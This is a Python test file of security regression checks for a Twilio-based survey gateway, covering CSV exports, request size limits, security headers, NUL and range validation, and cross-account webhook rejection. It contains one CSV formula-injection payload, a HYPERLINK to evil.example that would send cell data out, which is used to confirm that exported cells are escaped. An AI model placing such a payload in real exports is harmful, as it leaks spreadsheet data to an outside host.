"""What an outside probe found, each refused now: formula cells, oversized bodies, missing
headers, out-of-range values, malformed webhook fields, another Twilio account's webhooks."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from gateway.models import Answer, Customer, Interaction, Message, SurveySession
from tests.conftest import ACCOUNT_SID, PUBLIC_BASE_URL, twilio_signature
from tests.reports.factories import Seeder, at, report
from tests.voice.conftest import Call, new_call_sid

EVIL = '=HYPERLINK("http://evil.example/"&A1,"click")'


def _rows(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.fixture
def admin(make_api_key) -> dict[str, str]:
    return {"Authorization": f"Bearer {make_api_key('admin', name='admin')}"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(client, session, admin, start):
    seeder = Seeder(session)
    name = EVIL if start == "=" else start + "SUM(1,2)"
    operator = seeder.operator("op-evil", "North", name)
    seeder.survey(operator, {"overall": 4}, at("2026-09-02"))
    session.commit()

    operators = _rows(report(client, {**admin, "Accept": "text/csv"}))
    assert [r["operator_name"] for r in operators] == ["'" + name]
    scored = _rows(report(client, admin, "/api/v1/reports/interactions"))
    assert [r["operator_name"] for r in scored] == ["'" + name]


def test_numbers_in_csv_stay_numbers(client, session, admin):
    seeder = Seeder(session)
    seeder.survey(seeder.operator("op-1", "North", "Anna"), {"overall": 4}, at("2026-09-02"))
    session.commit()
    row = _rows(report(client, {**admin, "Accept": "text/csv"}))[0]
    assert row["overall_mean"] == "4.0" and row["operator_name"] == "Anna"


@pytest.mark.parametrize(
    ("path", "answer"),
    [
        ("/voice/status", "application/problem+json"),
        ("/sms/inbound", "application/problem+json"),
        ("/dashboard/login", "text/html"),  # a person's browser gets a page
    ],
)
def test_an_oversized_unauthenticated_form_is_refused_before_it_is_read(client, path, answer):
    body = b"Body=" + b"x" * (200 * 1024)
    response = client.post(path, data=body, content_type="application/x-www-form-urlencoded")
    assert response.status_code == 413
    assert response.mimetype == answer


def test_a_body_over_max_content_length_is_refused_on_the_api(client, auth):
    body = b'{"external_id": "' + b"x" * (3 * 1024 * 1024) + b'"}'
    response = client.post(
        "/api/v1/interactions", data=body, content_type="application/json", headers=auth
    )
    assert response.status_code == 413
    assert response.json["status"] == 413


def test_one_oversized_webhook_field_is_refused_before_the_service_sees_it(client, session):
    call = Call(client)
    call.start()
    response = call.post(call.action, {"Digits": "5", "RecordingUrl": "https://x/" + "r" * 600})
    assert response.status_code == 400
    assert "RecordingUrl" in response.get_data(as_text=True)
    assert session.scalar(select(func.count(Answer.id))) == 0


@pytest.mark.parametrize("path", ["/healthz", "/api/openapi.json", "/dashboard/login"])
def test_every_response_carries_the_security_headers(client, path):
    response = client.get(path)
    headers = response.headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
    assert headers["Strict-Transport-Security"].startswith("max-age=")


def test_dashboard_pages_have_a_strict_csp_and_no_inline_style(client):
    response = client.get("/dashboard/login")
    csp = response.headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "unsafe-inline" not in csp
    assert "style-src 'self'" in csp
    html = response.get_data(as_text=True)
    assert "<style" not in html and " style=" not in html
    assert 'rel="stylesheet" href="/dashboard/static/dashboard.css"' in html
    stylesheet = client.get("/dashboard/static/dashboard.css")
    stylesheet.close()
    assert stylesheet.status_code == 200
    assert client.get("/dashboard/login").headers["Content-Security-Policy"] != csp


def test_personal_data_is_never_cached(client, auth):
    created = client.post(
        "/api/v1/interactions",
        json={
            "external_id": "c-1",
            "channel": "call",
            "ended_at": "2026-11-23T10:00:00+03:00",
            "operator": {"external_id": "op-1"},
            "customer": {"phone": "+79161234567"},
        },
        headers=auth,
    )
    response = client.get(f"/api/v1/interactions/{created.json['id']}", headers=auth)
    assert response.headers["Cache-Control"] == "no-store"


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/api/v1/interactions/99999999999", 404),
        ("/api/v1/interactions/" + "9" * 5000, 404),
        ("/api/v1/interactions?page=1000000000000", 422),
        ("/api/v1/interactions?page=99999999999999999999999", 422),
        ("/api/v1/incidents?offset=99999999999999999999", 422),
        ("/api/v1/interactions?external_id=a%00b", 400),
        ("/api/v1/interactions?channel=call&external_id=" + "x" * 5000, 422),
        ("/api/v1/interactions?from=0001-01-01T00:00:00%2B03:00", 422),
        ("/api/v1/customers/a%00b/satisfaction", 400),
        ("/api/v1/customers/" + "c" * 300 + "/satisfaction", 404),
        ("/api/v1/reports/operators?from=2026-01-01&to=9999-12-31", 422),
        ("/api/v1/surveys/99999999999/exclusion", 404),
    ],
)
def test_out_of_range_values_are_client_errors_as_problem_json(client, admin, path, status):
    method = client.post if path.endswith("/exclusion") else client.get
    kwargs = {"json": {"reason": "x"}} if path.endswith("/exclusion") else {}
    response = method(path, headers=admin, **kwargs)
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/problem+json"


def test_a_nul_in_a_json_body_is_a_client_error_and_writes_nothing(client, auth, session):
    body = {
        "external_id": "nul\u0000id",
        "channel": "call",
        "ended_at": "2026-11-23T10:00:00+03:00",
        "operator": {"external_id": "op-1"},
        "customer": {"phone": "+79161234567"},
    }
    response = client.post("/api/v1/interactions", json=body, headers=auth)
    assert response.status_code == 400
    assert session.scalar(select(func.count(Interaction.id))) == 0


@pytest.mark.parametrize("query", ["external_id=a%00b", "operator=op%00", "a%00=1"])
def test_a_nul_in_the_query_string_is_a_client_error_that_says_why(client, auth, query):
    response = client.get(f"/api/v1/interactions?{query}", headers=auth)
    assert response.status_code == 400
    assert "NUL character" in response.get_data(as_text=True)


@pytest.mark.parametrize("path", ["/api/v1/interactions", "/api/v1/incidents"])
def test_a_query_parameter_without_a_name_is_refused_like_any_unknown_one(client, admin, path):
    response = client.get(f"{path}?page=1&=null", headers=admin)
    assert response.status_code == 400
    assert "no name" in response.get_data(as_text=True)
    assert client.get(f"{path}?page=1", headers=admin).status_code == 200


def test_a_superscript_digit_on_the_keypad_is_asked_again_not_a_server_error(client, session):
    call = Call(client)
    assert call.start().status_code == 200
    response = call.press("²")
    assert response.status_code == 200
    assert call.verbs()  # the question again, as for any other invalid key
    assert session.scalar(select(func.count(Answer.id)).where(Answer.value.is_not(None))) == 0


def test_a_call_sid_longer_than_twilios_is_refused_and_nothing_written(client, session):
    call = Call(client, call_sid="CA" + "f" * 70)
    response = call.start()
    assert response.status_code == 400
    assert "CallSid" in response.get_data(as_text=True)
    assert session.scalar(select(func.count(SurveySession.id))) == 0


def _sms(client, params):
    url = f"{PUBLIC_BASE_URL}/sms/inbound"
    headers = {"X-Twilio-Signature": twilio_signature(url, params)}
    return client.post("/sms/inbound", data=params, headers=headers)


def test_an_sms_with_a_nul_is_stored_without_it(client, session):
    params = {
        "MessageSid": "SM" + "1" * 32,
        "AccountSid": ACCOUNT_SID,
        "From": "+79161234567",
        "To": "+74951234567",
        "Body": "5\x00 thanks",
    }
    assert _sms(client, params).status_code == 200
    assert session.scalars(select(Message.body).order_by(Message.id)).all()[0] == "5 thanks"


def test_a_message_sid_over_64_characters_is_refused(client, session):
    params = {
        "MessageSid": "SM" + "1" * 80,
        "AccountSid": ACCOUNT_SID,
        "From": "+79161234567",
        "To": "+74951234567",
        "Body": "5",
    }
    assert _sms(client, params).status_code == 400
    assert session.scalar(select(func.count(Message.id))) == 0


def test_a_webhook_with_several_faults_is_told_the_first_id_unlike_twilios(client, session):
    params = {
        "SmsSid": "SM-" + "1" * 32,
        "From": "+7916\x001234567",
        "AccountSid": ACCOUNT_SID,
        "MessageSid": "SM-" + "2" * 32,
        "To": "+74951234567",
        "Body": "5",
    }
    response = _sms(client, params)
    assert response.status_code == 400
    assert response.get_data(as_text=True).startswith("MessageSid is not a Twilio id")
    no_bad_id = {**params, "SmsSid": "SM" + "1" * 32, "MessageSid": "SM" + "2" * 32}
    response = _sms(client, {**no_bad_id, "To": "x" * 600})
    assert response.get_data(as_text=True) == "From contains a NUL character"
    assert session.scalar(select(func.count(Message.id))) == 0


class TestAnotherAccount:
    @pytest.fixture
    def settings_overrides(self):
        return {"twilio_account_sid": ACCOUNT_SID}

    def test_a_webhook_signed_for_another_account_is_refused_and_nothing_written(
        self, client, session
    ):
        other = {
            "MessageSid": "SM" + "2" * 32,
            "AccountSid": "AC" + "9" * 32,
            "From": "+79161234567",
            "To": "+74951234567",
            "Body": "STOP",
        }
        assert _sms(client, other).status_code == 403
        call = Call(client, call_sid=new_call_sid())
        params = {**call.base_params(), "AccountSid": "AC" + "9" * 32}
        url = f"{PUBLIC_BASE_URL}/voice/survey?operator=op-1"
        signed = {"X-Twilio-Signature": twilio_signature(url, params)}
        voice = client.post("/voice/survey?operator=op-1", data=params, headers=signed)
        assert voice.status_code == 403
        assert session.scalar(select(func.count(Message.id))) == 0
        assert session.scalar(select(func.count(Customer.id))) == 0
        assert session.scalar(select(func.count(SurveySession.id))) == 0

    def test_our_own_account_is_served(self, client):
        ours = {
            "MessageSid": "SM" + "3" * 32,
            "AccountSid": ACCOUNT_SID,
            "From": "+79161234567",
            "To": "+74951234567",
            "Body": "HELP",
        }
        assert _sms(client, ours).status_code == 200
